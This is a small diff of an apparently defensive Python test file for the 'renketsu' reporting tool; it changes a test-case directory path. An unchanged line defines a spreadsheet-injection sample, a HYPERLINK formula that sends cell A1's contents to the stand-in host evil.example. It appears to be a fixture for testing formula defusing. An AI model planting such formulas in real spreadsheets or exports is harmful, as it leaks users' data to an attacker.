@@ -22,7 +22,7 @@ from renketsu.cli.main import app
 from renketsu.reports.text import cell, defuse, put, visible
 
 ROOT = Path(__file__).resolve().parents[2]
-CASE = ROOT / "tests" / "cases" / "a-foreign-sub-cta" / "workspace"
+CASE = ROOT / "tests" / "cases" / "translation" / "a-foreign-sub-cta" / "workspace"
 PERIOD = "2021-12-31"
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
